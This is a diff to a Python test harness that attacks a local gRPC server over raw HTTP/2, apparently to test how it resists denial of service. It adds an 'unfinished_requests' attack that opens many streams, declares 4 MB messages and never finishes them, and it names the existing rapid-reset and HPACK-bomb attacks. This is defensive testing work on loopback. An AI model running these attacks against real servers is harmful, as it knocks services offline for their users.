@@ -13,7 +13,8 @@ The attackers speak raw HTTP/2 over plain sockets, frame by frame, so that
 they can do what no well-behaved library lets them do: never open a flow
 control window, reset a stream in the same packet that started it, stop
 half-way through the connection preface, or send a header block that
-decodes to a thousand times its size. Each binds its sockets to a source
+decodes to a thousand times its size (one, which only needs to leave its
+requests unfinished, uses the h2 library). Each binds its sockets to a source
 address of its own (127.0.0.2 by default: Linux routes all of 127/8 to the
 loopback interface), so that the server can tell it from the honest
 client, which connects from 127.0.0.1 with grpcio.
@@ -316,10 +317,69 @@ def hpack_bomb(address, duration_s, connections=2, bind=ATTACKER_ADDRESS,
     return counts
 
 
+def unfinished_requests(address, streams=40, size=3 << 20, hold_s=3.0,
+                        bind=ATTACKER_ADDRESS):
+    """One connection starts `streams` calls, each declaring a 4 MB
+    message and sending `size` bytes of it, as fast as flow control lets
+    it, and never the rest: request bytes parked on the server. Uses the
+    h2 library, which keeps to the windows. Returns {"sent", "reset"}:
+    bytes sent, and streams the server ended before they were done."""
+    import h2.connection
+    import h2.events
+    import h2.exceptions
+    sock = connect(address, bind)
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    left, reset, sent = {}, set(), 0
+    for _ in range(streams):
+        stream = conn.get_next_available_stream_id()
+        conn.send_headers(stream, [
+            (":method", "POST"), (":scheme", "http"),
+            (":path", "/rectrack.v1.Tracker/CreateSource"),
+            (":authority", "localhost"), ("content-type", "application/grpc")])
+        conn.send_data(stream, struct.pack(">BI", 0, 4 << 20))
+        left[stream] = size
+    sock.sendall(conn.data_to_send())
+    deadline = time.monotonic() + hold_s
+    sock.settimeout(0.05)
+    while time.monotonic() < deadline:
+        for stream in list(left):
+            window = min(conn.local_flow_control_window(stream),
+                         conn.max_outbound_frame_size, left[stream])
+            if window > 0 and stream not in reset:
+                try:
+                    conn.send_data(stream, b"x" * window)
+                except h2.exceptions.StreamClosedError:
+                    reset.add(stream)
+                    continue
+                left[stream] -= window
+                sent += window
+        try:
+            sock.sendall(conn.data_to_send())
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, (h2.events.StreamReset,
+                                  h2.events.StreamEnded)):
+                reset.add(event.stream_id)
+            if isinstance(event, h2.events.TrailersReceived) or \
+                    isinstance(event, h2.events.ResponseReceived):
+                if any(k == b"grpc-status" for k, _ in event.headers):
+                    reset.add(event.stream_id)
+    sock.close()
+    return {"sent": sent, "reset": len(reset)}
+
+
 # ---- attacks in a process of their own ------------------------------------------
 
 ATTACKS = {"stalled": stalled_responses, "rapid-reset": rapid_reset,
-           "hpack-bomb": hpack_bomb}
+           "hpack-bomb": hpack_bomb, "unfinished-requests": unfinished_requests}
 
 
 class Attack:
